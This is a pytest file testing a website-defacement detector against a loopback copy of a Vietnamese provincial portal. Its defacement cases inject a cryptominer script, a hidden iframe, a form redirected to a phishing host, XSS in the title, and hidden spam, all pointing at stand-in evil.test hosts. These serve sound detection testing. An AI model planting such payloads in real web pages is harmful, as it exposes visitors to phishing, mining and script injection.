"""web_integrity against a real portal on loopback that the tests deface in every way the rules name."""

from __future__ import annotations

import asyncio
import json
from dataclasses import dataclass
from pathlib import Path
from typing import Any, Iterator

import pytest

from netwatch.config import ConfigError, loads
from netwatch.probes.contract import ProbeContext
from netwatch.fields import FieldError
from netwatch.egov import SECURITY_ERRORS, baselines
from netwatch.model import Outcome, Target
from netwatch.probes import web_integrity
from netwatch.store import Store
from tests.peers import webservers
from tests.peers.certs import make_pki
from tests.peers.portal import Portal, portal_page

TARGET = Target(id="portal", host="127.0.0.1")
RULES: dict[str, Any] = dict(
    ignore=(".ticker", ".date"),
    required=("#congress-banner", "text:Đại hội đại biểu"),
    forbidden=web_integrity.DEFAULT_FORBIDDEN + ("hacked",),
)


@pytest.fixture
def portal() -> Iterator[Portal]:
    p = Portal()
    yield p
    p.close()


@pytest.fixture
def store(tmp_path: Path) -> Iterator[Store]:
    s = Store.open(str(tmp_path / "netwatch.db"))
    use(baselines.Baselines.of_store(s))
    yield s
    use(None)
    s.close()


def settings(url: str | None = None, **kwargs: Any) -> web_integrity.Settings:
    return web_integrity.Settings(url=url, **{**RULES, **kwargs})


class Repo:
    """The baselines the probes of this module get in their context."""

    current: baselines.Baselines | None = None


def use(repo: baselines.Baselines | None) -> None:
    Repo.current = repo


async def run(s: web_integrity.Settings, timeout: float = 5.0, target: Target = TARGET) -> Outcome:
    return await web_integrity.probe(target, s, timeout, ProbeContext(target.id, baselines=Repo.current))


async def test_first_run_takes_the_baseline_then_matches(portal: Portal, store: Store) -> None:
    s = settings(portal.url())
    first = await run(s)
    assert first.ok and first.degraded is None, first
    assert [e.kind for e in first.events] == ["baseline"]
    assert "first run" in first.detail
    second = await run(s)
    assert second.ok and second.degraded is None, second
    assert second.measurements["text_change_ratio"] == 0.0
    assert second.events == ()


async def test_ignored_regions_and_small_edits_do_not_alarm(portal: Portal, store: Store) -> None:
    s = settings(portal.url())
    await run(s)
    portal.set("/", portal_page(clock="23:59", date="14/12/2026",
                                **{"tầng 2, khu B": "tầng 3, khu C"}))
    outcome = await run(s)
    assert outcome.ok, outcome
    assert 0.0 < outcome.measurements["text_change_ratio"] < 0.05


REWRITTEN = """<main id="content">
<h1>Thông báo</h1><p>Trang đang được nâng cấp, mời quay lại sau. Xin cảm ơn.</p>
<p>Mọi thắc mắc xin liên hệ bộ phận kỹ thuật của đơn vị quản lý.</p></main>"""


@dataclass(frozen=True)
class Defacement:
    name: str
    replace: dict[str, str]
    error: str


def _main_section() -> str:
    html = portal_page()
    start = html.index('<main id="content">')
    return html[start: html.index("</main>") + len("</main>")]


DEFACEMENTS = [
    Defacement("hacked_by_heading", {"<h1>Chào mừng Đại hội đại biểu Đảng bộ tỉnh lần thứ XV</h1>":
                                     "<h1>Hacked by Gh0st Team — Đại hội đại biểu</h1>"}, "forbidden_content"),
    Defacement("rewritten_text", {_main_section(): REWRITTEN.replace("Thông báo", "Thông báo Đại hội đại biểu")},
               "content_changed"),
    Defacement("external_script", {"</body>": '<script src="https://miner.evil.test/c.js"></script></body>'},
               "new_external_script"),
    Defacement("hidden_iframe", {"</footer>": '</footer><iframe src="//ads.evil.test/x" style="display:none"></iframe>'},
               "new_external_script"),
    Defacement("data_script", {"</body>": '<script src="data:text/javascript,alert(1)"></script></body>'},
               "new_external_script"),
    Defacement("phishing_form", {'action="/tim-kiem" method="get"': 'action="https://phish.evil.test/c" method="post"'},
               "form_changed"),
    Defacement("seo_spam", {"</footer>": '</footer><div style="display:none"><a href="https://x.test">Nhà cái '
                                          'uy tín số 1</a></div>'}, "forbidden_content"),
    Defacement("zero_width_trick", {"</footer>": "</footer><p>H\u200backed by x</p>"}, "forbidden_content"),
    Defacement("fullwidth_trick", {"</footer>": "</footer><p>ｈａｃｋｅｄ ｂｙ x</p>"}, "forbidden_content"),
    Defacement("banner_removed", {'<div id="congress-banner">': '<div id="other-banner">'}, "required_missing"),
    Defacement("title_injection", {"<title>Cổng thông tin điện tử tỉnh</title>":
                                   "<title><script>alert('x')</script>\u202eCổng</title>"}, "content_changed"),
]


@pytest.mark.parametrize("case", DEFACEMENTS, ids=lambda c: c.name)
async def test_each_defacement_fails_with_its_class(portal: Portal, store: Store, case: Defacement) -> None:
    s = settings(portal.url())
    assert (await run(s)).ok
    portal.set("/", portal_page(**case.replace))
    outcome = await run(s)
    assert not outcome.ok
    assert outcome.error == case.error, outcome
    assert outcome.error in SECURITY_ERRORS
    assert len(outcome.detail) <= 500 and outcome.detail.isprintable()
    [event] = outcome.events
    assert event.kind == "defacement" and event.data["error"] == case.error
    assert all(line.isprintable() and len(line) <= 200 for line in event.data["diff"])  # type: ignore[union-attr]
    json.dumps(dict(event.data))  # history stores it as JSON
    again = await run(s)
    assert again.error == case.error and again.events == (), "one event per distinct defacement, not per run"
    portal.set("/", portal_page())
    assert (await run(s)).ok


async def test_title_injection_is_shown_escaped(portal: Portal, store: Store) -> None:
    s = settings(portal.url())
    await run(s)
    portal.set("/", portal_page(**{"<title>Cổng thông tin điện tử tỉnh</title>":
                                   "<title>\u202eCổng\x1b[31m</title>"}))
    outcome = await run(s)
    assert outcome.error == "content_changed"
    assert "\\u202e" in outcome.detail and "\u202e" not in outcome.detail
    diff = outcome.events[0].data["diff"]
    assert "+ title: \\u202eCổng[31m" in diff  # type: ignore[operator]


async def test_defacement_diff_shows_old_and_new_text(portal: Portal, store: Store) -> None:
    s = settings(portal.url())
    await run(s)
    portal.set("/", portal_page(**{_main_section(): REWRITTEN + '<p id="x">Đại hội đại biểu</p>'}))
    outcome = await run(s)
    assert outcome.error == "content_changed"
    diff = outcome.events[0].data["diff"]
    assert "- Chào mừng Đại hội đại biểu Đảng bộ tỉnh lần thứ XV" in diff  # type: ignore[operator]
    assert "+ Trang đang được nâng cấp, mời quay lại sau. Xin cảm ơn." in diff  # type: ignore[operator]
    assert outcome.measurements["text_change_ratio"] > 0.5


async def test_allowed_domain_and_unchanged_sources_pass(portal: Portal, store: Store) -> None:
    s = settings(portal.url(), allow_domains=("stats.gov.test",))
    await run(s)
    portal.set("/", portal_page(**{"</body>": '<script src="https://a.stats.gov.test/s.js"></script>'
                                              '<script src="/static/other.js"></script></body>'}))
    assert (await run(s)).ok


async def test_forbidden_words_fail_even_on_first_run_and_block_the_baseline(portal: Portal, store: Store) -> None:
    portal.set("/", portal_page(**{"</footer>": "</footer><p>hacked by someone</p>"}))
    s = settings(portal.url())
    outcome = await run(s)
    assert outcome.error == "forbidden_content"
    assert Repo.current.get("portal", portal.url()) is None  # type: ignore[union-attr]


async def test_member_sites_share_rules_and_report_one_child_each(portal: Portal, store: Store) -> None:
    for n in (1, 2, 3):
        portal.set(f"/site{n}/", portal_page(**{"Cổng thông tin điện tử tỉnh": f"Trang thành viên {n}"}))
    s = web_integrity.Settings(urls=tuple(portal.url(f"/site{n}/") for n in (1, 2, 3)), **RULES)
    first = await run(s)
    assert first.ok, first
    assert sorted(first.children) == [f"integrity/127.0.0.1_{portal.port}_site{n}" for n in (1, 2, 3)]
    portal.set("/site2/", portal_page(**{"Cổng thông tin điện tử tỉnh": "Trang thành viên 2",
                                         '<div id="congress-banner">': "<div>"}))
    outcome = await run(s)
    assert outcome.ok, "the parent is a summary row; the member site pages on its own"
    assert outcome.measurements["sites_failed"] == 1 and outcome.measurements["sites"] == 3
    failed = {k: o.error for k, o in outcome.children.items() if not o.ok}
    assert list(failed.values()) == ["required_missing"]
    assert list(failed)[0].endswith("site2")
    assert outcome.detail == "1 of 3 sites failed: 127.0.0.1: required_missing"
    assert outcome.events == () and [e.kind for o in outcome.children.values() for e in o.events] == ["defacement"]


def test_child_suffixes_are_valid_check_ids() -> None:
    s = web_integrity.Settings(urls=("https://so-tttt.tinh.test/", "http://xa-a.tinh.test:8080/a/b?c=d",
                                     "http://xa-a.tinh.test:8080/"))
    suffixes = [web_integrity.child_suffix(s, u) for u in s.pages]
    assert suffixes == ["integrity/so-tttt.tinh.test", "integrity/xa-a.tinh.test_8080_a_b_c_d",
                        "integrity/xa-a.tinh.test_8080"]


async def test_changed_selectors_reread_the_approved_page(portal: Portal, store: Store) -> None:
    await run(settings(portal.url()))
    portal.set("/", portal_page(clock="11:11"))
    narrower = settings(portal.url(), include=("#content", "footer"), ignore=())
    outcome = await run(narrower)
    assert outcome.ok and outcome.events == (), outcome
    stored = Repo.current.get("portal", portal.url())  # type: ignore[union-attr]
    assert narrower.profile.digest() in stored.fingerprints  # type: ignore[union-attr]


async def test_baseline_is_retaken_at_the_start_of_the_configured_phase(portal: Portal, store: Store) -> None:
    @dataclass
    class Phase:
        id: str
        start: float

    s = settings(portal.url(), baseline_at_phase="before")
    await run(s)
    taken = Repo.current.get("portal", portal.url()).taken_at  # type: ignore[union-attr]
    portal.set("/", portal_page(**{_main_section(): REWRITTEN + "<p>Đại hội đại biểu</p>"}))
    assert (await run(s)).error == "content_changed"
    use(baselines.Baselines.of_store(store, lambda ts: Phase("before", taken + 0.001)))
    outcome = await run(s)
    assert outcome.ok and [e.kind for e in outcome.events] == ["baseline"], outcome
    assert "start of phase before" in outcome.detail
    assert (await run(s)).ok
    use(baselines.Baselines.of_store(store, lambda ts: Phase("during", ts)))
    portal.set("/", portal_page())  # the old page brings its search form back: the most severe finding
    assert (await run(s)).error == "form_changed"


async def test_readonly_baselines_compare_but_never_write(portal: Portal, store: Store, tmp_path: Path) -> None:
    s = settings(portal.url())
    use(baselines.Baselines.open_readonly(str(tmp_path / "netwatch.db")))
    outcome = await run(s)
    assert outcome.ok and outcome.degraded == "no_baseline"
    use(baselines.Baselines.of_store(store))
    await run(s)
    use(baselines.Baselines.open_readonly(str(tmp_path / "netwatch.db")))
    portal.set("/", portal_page(**{"</body>": '<script src="https://x.evil.test/a.js"></script></body>'}))
    assert (await run(s)).error == "new_external_script"
    use(baselines.Baselines.open_readonly(str(tmp_path / "absent.db")))
    assert (await run(s)).degraded == "no_baseline"


async def test_without_any_store_rules_still_apply(portal: Portal) -> None:
    use(None)
    s = settings(portal.url())
    assert (await run(s)).degraded == "no_baseline"
    portal.set("/", portal_page(**{'<div id="congress-banner">': "<div>"}))
    outcome = await run(s)
    assert outcome.error == "required_missing" and outcome.events[0].kind == "defacement"


# -- hostile pages ---------------------------------------------------------------------------

async def test_huge_and_endless_pages_hit_the_body_cap(portal: Portal, store: Store) -> None:
    for path in ("/huge", "/endless"):
        outcome = await run(settings(portal.url(path)), timeout=10)
        assert outcome.error == "body_too_large", outcome


async def test_slow_page_times_out(portal: Portal, store: Store) -> None:
    outcome = await run(settings(portal.url("/slow?s=3")), timeout=0.5)
    assert outcome.error == "timeout"


@pytest.mark.parametrize("body", [
    b"",
    b"\x00\x01\x02 binary \xff\xfe garbage" * 1000,
    b"<html><body>" + b"<div>" * 60000 + "Đại hội".encode() + b"</div>" * 60000,
    b"<?xml version='1.0' encoding='utf-8'?><html><title>x</title><body>hi</body></html>",
    "<html><head><meta charset='windows-1258'></head><body>Đại hội</body></html>".encode("utf-8"),
    b"<html><body>" + b"<p>same line</p>" * 100000 + b"</body></html>",
], ids=["empty", "binary", "deep_nesting", "xml_declaration", "wrong_charset", "many_blocks"])
async def test_hostile_markup_fails_safely(portal: Portal, store: Store, body: bytes) -> None:
    portal.set("/", body)
    s = settings(portal.url(), max_body_bytes=4 << 20)
    outcome = await run(s, timeout=10)
    assert outcome.error in (None, "required_missing"), outcome
    portal.set("/", body + b"<p>hacked by</p>")
    outcome = await run(s, timeout=10)
    assert outcome.error in ("forbidden_content", "required_missing", "content_changed"), outcome


async def test_not_found_is_a_status_failure(portal: Portal, store: Store) -> None:
    outcome = await run(settings(portal.url("/missing")))
    assert outcome.error == "status" and "404" in outcome.detail


# -- TLS -------------------------------------------------------------------------------------

@pytest.fixture
def pki(tmp_path: Path) -> Any:
    return make_pki(tmp_path)


@pytest.mark.parametrize("leaf,error", [("expired", "tls_expired"), ("wrong_host", "tls_hostname"),
                                        ("self_signed", "tls_untrusted"), ("not_yet_valid", "tls_not_yet_valid")])
async def test_certificate_problems_are_named(pki: Any, store: Store, leaf: str, error: str) -> None:
    site = Portal(context=webservers.server_context(getattr(pki, leaf)))
    try:
        outcome = await run(settings(site.url(host="localhost"), ca_file=str(pki.ca_file)))
    finally:
        site.close()
    assert outcome.error == error, outcome


async def test_certificate_expiry_warning_and_critical_days(pki: Any, store: Store) -> None:
    site = Portal(context=webservers.server_context(pki.valid))
    try:
        url = site.url(host="localhost")
        ok = await run(settings(url, ca_file=str(pki.ca_file)))
        assert ok.ok and ok.degraded is None and ok.measurements["tls_cert_expiry_timestamp_seconds"] > 0
        warn = await run(settings(url, ca_file=str(pki.ca_file), tls_warn_days=120, tls_critical_days=7))
        assert warn.ok and warn.degraded == "tls_cert_expiry", warn
        critical = await run(settings(url, ca_file=str(pki.ca_file), tls_warn_days=120, tls_critical_days=100))
        assert critical.error == "tls_expiring" and "critical below 100 days" in critical.detail
    finally:
        site.close()


# -- settings --------------------------------------------------------------------------------

@pytest.mark.parametrize("kwargs,field", [
    ({}, "url"),
    ({"url": "ftp://x.test/"}, "url"),
    ({"url": "http://a.test/", "include": ("div[",)}, "include.0"),
    ({"url": "http://a.test/", "ignore": ("//div[",)}, "ignore.0"),
    ({"url": "http://a.test/", "required": ("text:  ",)}, "required.0"),
    ({"url": "http://a.test/", "forbidden": ("",)}, "forbidden"),
    ({"url": "http://a.test/", "max_text_change_ratio": 0.0}, "max_text_change_ratio"),
    ({"url": "http://a.test/", "tls_warn_days": 5, "tls_critical_days": 9}, "tls_critical_days"),
    ({"url": "http://a.test/", "urls": ("http://a.test/",)}, "urls"),
])
def test_bad_settings_blame_their_field(kwargs: dict[str, Any], field: str) -> None:
    with pytest.raises(FieldError) as info:
        web_integrity.Settings(**kwargs)
    assert info.value.field == field


def test_config_error_points_at_the_bad_selector() -> None:
    text = """
targets:
  - id: portal
    checks:
      - kind: web_integrity
        url: https://portal.tinh.test/
        ignore: [".ticker", "div[[["]
"""
    with pytest.raises(ConfigError) as info:
        loads(text, "venue.yaml")
    assert str(info.value).startswith(
        "venue.yaml:7:9: targets[0].checks[0].ignore.1: 'div[[[' is not a valid CSS selector")


def test_config_accepts_member_sites_with_one_rule_set() -> None:
    config = loads("""
targets:
  - id: members
    checks:
      - kind: web_integrity
        urls: [https://so-a.tinh.test/, https://so-b.tinh.test/]
        required: ["#congress-banner", "text:Đại hội"]
        forbidden: [hacked by, nhà cái]
        max_text_change_ratio: 0.3
""")
    [check] = config.checks
    assert len(check.settings.pages) == 2  # type: ignore[attr-defined]


async def test_probe_honours_its_deadline_with_many_member_sites(store: Store) -> None:
    silent = await webservers.start(webservers.silent)
    try:
        s = web_integrity.Settings(urls=tuple(silent.url(f"/s{n}") for n in range(20)))
        started = asyncio.get_running_loop().time()
        outcome = await run(s, timeout=0.5)
        assert asyncio.get_running_loop().time() - started < 1.5
        assert len(outcome.children) == 20 and {o.error for o in outcome.children.values()} == {"timeout"}
    finally:
        await silent.close()


async def test_a_broken_store_still_applies_the_rules(portal: Portal, tmp_path: Path) -> None:
    broken = Store.open(str(tmp_path / "broken.db"))
    repo = baselines.Baselines.of_store(broken)
    broken.close()
    use(repo)
    try:
        s = settings(portal.url())
        outcome = await run(s)
        assert outcome.ok and outcome.degraded == "no_baseline" and "baseline store unreadable" in outcome.detail
        portal.set("/", portal_page(**{'<div id="congress-banner">': "<div>"}))
        assert (await run(s)).error == "required_missing"
    finally:
        use(None)
